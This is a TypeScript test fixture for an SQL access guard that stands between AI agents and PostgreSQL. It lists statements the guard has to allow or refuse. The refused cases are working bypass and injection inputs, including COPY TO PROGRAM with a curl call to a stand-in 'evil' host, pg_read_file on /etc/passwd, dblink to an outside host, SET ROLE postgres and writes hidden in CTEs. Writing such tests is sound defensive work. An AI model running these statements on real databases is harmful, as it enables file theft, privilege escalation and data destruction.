// The bypass suite: statements written the tricky ways, judged under BYPASS_POLICY (an agent may
// read `orders` and `customers`, run transactions and harmless SETs; nothing else). Every
// `deny` case must be refused, every `allow` case must pass (so the suite also catches a guard
// that refuses everything). `e2e` marks the subset the integration suite also sends through a
// real sidecar to a real PostgreSQL. Keep adding to it.
import type { AgentAccessPolicy } from "../../../api/src/index.ts";

export interface BypassCase {
  sql: string;
  expect: "allow" | "deny";
  /** Refused by the built-in guard (parse failure, deny-list) rather than by the rules. */
  builtin?: boolean;
  why: string;
  e2e?: boolean;
}

export const BYPASS_POLICY: AgentAccessPolicy = {
  apiVersion: "airlock.dev/v1alpha1",
  kind: "AgentAccessPolicy",
  metadata: { name: "bypass", namespace: "agents" },
  spec: {
    connections: [{ name: "db", protocol: "postgres", target: { host: "127.0.0.1", port: 5432 } }],
    rules: [
      {
        name: "no-ddl",
        action: "deny",
        match: { sql: { statements: ["create", "alter", "drop", "truncate"] } },
      },
      {
        name: "read-orders",
        action: "allow",
        match: { sql: { statements: ["read"], tables: ["orders", "customers"] } },
      },
      { name: "session", action: "allow", match: { sql: { statements: ["transaction", "set", "show"] } } },
    ],
  },
};

const D = (sql: string, why: string, extra: Partial<BypassCase> = {}): BypassCase => ({
  sql,
  expect: "deny",
  why,
  ...extra,
});
const B = (sql: string, why: string, extra: Partial<BypassCase> = {}): BypassCase => ({
  sql,
  expect: "deny",
  builtin: true,
  why,
  ...extra,
});
const A = (sql: string, why: string, extra: Partial<BypassCase> = {}): BypassCase => ({
  sql,
  expect: "allow",
  why,
  ...extra,
});

export const BYPASS_CASES: readonly BypassCase[] = [
  // Baseline: what the policy allows must pass.
  A("SELECT * FROM orders", "plain read", { e2e: true }),
  A("select o.id from public.orders o join customers c on c.id = o.customer_id", "qualified join"),
  A("/* hello */ SELECT count(*) FROM orders -- trailing", "comments around a read", { e2e: true }),
  A("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent", "CTE names are not tables"),
  A(
    "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 3) SELECT * FROM t",
    "recursive CTE",
  ),
  A("BEGIN; SELECT * FROM orders; COMMIT", "read inside a transaction", { e2e: true }),
  A("SET statement_timeout = 1000", "harmless setting"),
  A("SET client_encoding = 'UTF8'", "UTF8 client encoding"),
  A("SHOW search_path", "show"),
  A("EXPLAIN SELECT * FROM orders", "plain explain of a read"),
  A("COPY orders TO STDOUT", "copy out of an allowed table"),
  A("SELECT $$; DELETE FROM orders; $$", "dollar-quoted string is data, not a statement", { e2e: true }),
  A("SELECT E'\\'; DELETE FROM orders; --'", "escaped quote in an E'' string is data", { e2e: true }),
  A("SELECT current_setting('search_path')", "current_setting is fine"),
  A("RESET ALL", "resets to the startup values the sidecar chose"),
  A("SELECT * FROM orders WHERE id = $1", "parameterised read"),

  // Casing, comments, quoting.
  D("DELETE FROM orders", "plain delete", { e2e: true }),
  D("dElEtE fRoM orders", "mixed case"),
  D("/* hi */ DELETE/**/FROM orders -- x", "comments inside"),
  D("SELECT * FROM secrets", "unlisted table", { e2e: true }),
  D("SELECT * FROM public.secrets", "qualified unlisted table"),
  D('SELECT * FROM "secrets"', "quoted identifier"),
  D('SELECT * FROM U&"\\0073ecrets"', "unicode-escaped identifier"),
  D('SELECT * FROM "Orders"', "quoted mixed-case name is another table"),
  D("TABLE secrets", "TABLE shorthand"),
  D("SELECT * FROM ONLY secrets", "ONLY"),
  D("SELECT * FROM orders JOIN secrets USING (id)", "join to an unlisted table"),
  D("SELECT * FROM orders WHERE id IN (SELECT id FROM secrets)", "subquery"),
  D("SELECT (SELECT max(x) FROM secrets) FROM orders", "scalar subquery"),
  D("select 1 union select count(*) from secrets", "set operation"),
  D("SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s, secrets", "CTE name out of scope"),
  D("WITH orders AS (SELECT * FROM secrets) SELECT * FROM orders", "CTE named like an allowed table"),
  D("SELECT '\\'; DELETE FROM orders; --'", "a backslash does not escape a quote in a standard string", {
    e2e: true,
  }),

  // Multi-statement.
  D("SELECT 1; DELETE FROM orders", "second statement", { e2e: true }),
  D("SELECT * FROM orders; DROP TABLE customers", "DDL after a read"),
  D("SELECT 1;;; ;DELETE FROM orders", "empty statements in between"),
  D("SELECT * FROM orders; COMMIT; DELETE FROM orders", "after a commit"),

  // Writes hidden in reads.
  D("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", "DML in a CTE", { e2e: true }),
  D(
    "WITH a AS (SELECT 1), b AS (UPDATE orders SET total = 0 RETURNING *) SELECT * FROM a",
    "second CTE writes",
  ),
  D("COPY (DELETE FROM orders RETURNING *) TO STDOUT", "DML inside COPY"),
  D("SELECT * FROM orders FOR UPDATE", "row locks need update"),
  D("SELECT * FROM orders FOR SHARE", "row locks need update"),
  D("SELECT nextval('orders_id_seq')", "nextval writes a sequence"),
  D("SELECT * INTO stolen FROM orders", "SELECT INTO creates a table"),
  D("CREATE TABLE stolen AS SELECT * FROM orders", "CREATE TABLE AS"),

  // EXPLAIN.
  D("EXPLAIN ANALYZE DELETE FROM orders", "EXPLAIN ANALYZE executes", { e2e: true }),
  D("EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 1", "EXPLAIN (ANALYZE, ...)"),
  D("explain (analyze on) delete from orders", "ANALYZE on"),
  D("EXPLAIN DELETE FROM orders", "plain EXPLAIN of a write is not a read"),

  // Opaque code.
  D("DO $$ BEGIN DELETE FROM orders; END $$", "DO block"),
  B("DO $$BEGIN PERFORM pg_sleep(10); END$$", "DO block using a denied function"),
  D("CALL do_things()", "CALL"),
  D(
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM orders RETURNING 1'; SELECT f()",
    "function body",
  ),

  // COPY.
  B("COPY orders TO PROGRAM 'curl http://evil'", "COPY TO PROGRAM", { e2e: true }),
  B("copy orders from program 'id'", "COPY FROM PROGRAM"),
  B("COPY (SELECT * FROM orders) TO '/tmp/x'", "COPY to a server file"),
  B("COPY orders FROM '/etc/passwd'", "COPY from a server file"),
  D("COPY orders FROM STDIN", "copy in is a write"),

  // Denied functions, nested and qualified.
  B("SELECT pg_read_file('/etc/passwd')", "server file read", { e2e: true }),
  B(
    "SELECT * FROM orders WHERE id = (SELECT length(pg_catalog.pg_read_file('/etc/passwd')))",
    "nested + qualified",
  ),
  B("SELECT \"pg_read_file\"('/etc/passwd')", "quoted function name"),
  B("SELECT PG_READ_BINARY_FILE('/etc/passwd')", "upper case"),
  B("select * from pg_ls_dir('.')", "function in FROM"),
  B("SELECT * FROM orders, LATERAL pg_ls_dir('.') d", "lateral function"),
  B("SELECT * FROM ROWS FROM (pg_ls_dir('/'))", "ROWS FROM"),
  B("SELECT pg_stat_file('postgresql.conf')", "stat file"),
  B("SELECT lo_import('/etc/passwd')", "large object import"),
  B("SELECT lo_export(1234, '/tmp/x')", "large object export"),
  B("SELECT dblink_exec('host=evil', 'drop table x')", "dblink"),
  B("SELECT set_config('search_path', 'evil', false)", "set_config"),
  B("SELECT pg_terminate_backend(123)", "terminate others"),
  B("SELECT pg_cancel_backend(123)", "cancel others"),
  B("SELECT pg_reload_conf()", "reload config"),
  B("SELECT pg_rotate_logfile()", "rotate log"),
  B("SELECT pg_sleep(100)", "sleep", { e2e: true }),
  B("SELECT * FROM orders WHERE pg_catalog.pg_sleep(1) IS NOT NULL", "sleep in WHERE"),
  B("SELECT setval('orders_id_seq', 1)", "setval"),
  B("SELECT query_to_xml('select * from secrets', true, false, '')", "dynamic SQL executor"),
  B("SELECT table_to_xml('secrets', true, false, '')", "table named in a string"),
  B("SELECT ts_stat('select v from secrets')", "ts_stat runs SQL"),
  B("SELECT coalesce(NULL, pg_read_file('x'))", "inside an expression"),
  B("SELECT (SELECT pg_ls_dir('.') LIMIT 1) FROM orders", "inside a subquery"),
  B("SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders", "inside an aggregate filter"),
  B("PREPARE p AS SELECT pg_read_file($1)", "inside PREPARE"),
  B("EXPLAIN SELECT pg_sleep(10)", "inside EXPLAIN"),

  // Settings.
  B("SET search_path = evil, public", "search_path", { e2e: true }),
  B("set local search_path to evil", "SET LOCAL"),
  B("SET SESSION AUTHORIZATION 'postgres'", "session authorization"),
  B("SET ROLE postgres", "SET ROLE", { e2e: true }),
  B("RESET ROLE", "RESET ROLE"),
  B("SET default_transaction_read_only = off", "read-only off", { e2e: true }),
  B("reset default_transaction_read_only", "RESET read-only"),
  B("SET transaction_read_only = off", "transaction read-only off"),
  B("BEGIN READ WRITE", "BEGIN READ WRITE", { e2e: true }),
  B("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", "START ... READ WRITE"),
  B("SET TRANSACTION READ WRITE", "SET TRANSACTION READ WRITE"),
  B("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "session characteristics"),
  B("SET session_replication_role = replica", "disables triggers"),
  B("SET standard_conforming_strings = off", "string syntax"),
  B("SET client_encoding = 'SJIS'", "client-only encoding"),
  B("SET NAMES 'GBK'", "SET NAMES"),
  B("ALTER ROLE CURRENT_USER SET search_path = evil", "future sessions' search_path"),
  B("ALTER SYSTEM SET fsync = off", "ALTER SYSTEM"),
  B("LOAD 'evil.so'", "LOAD"),

  // Prepared statements through SQL.
  D("PREPARE p AS DELETE FROM orders", "PREPARE of a write"),
  B("EXECUTE never_prepared", "EXECUTE of an unknown statement"),

  // Not parseable.
  B("SELEC * FROM orders", "syntax error", { e2e: true }),
  B("SELECT * FROM orders WHERE", "truncated"),
  B("SELECT * FROM orders /* unterminated", "unterminated comment"),
  B(`SELECT ${"(".repeat(20000)}1${")".repeat(20000)}`, "nesting deeper than the parser allows"),

  // Other statement kinds.
  D("INSERT INTO orders VALUES (1)", "insert"),
  D("UPDATE orders SET total = 0", "update"),
  D("MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE", "merge"),
  D("TRUNCATE orders", "truncate"),
  D("GRANT ALL ON orders TO PUBLIC", "grant"),
  D("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "lock"),
  D("VACUUM FULL orders", "maintenance"),
  D("NOTIFY ch", "notify"),
  D("DISCARD ALL", "discard"),
];
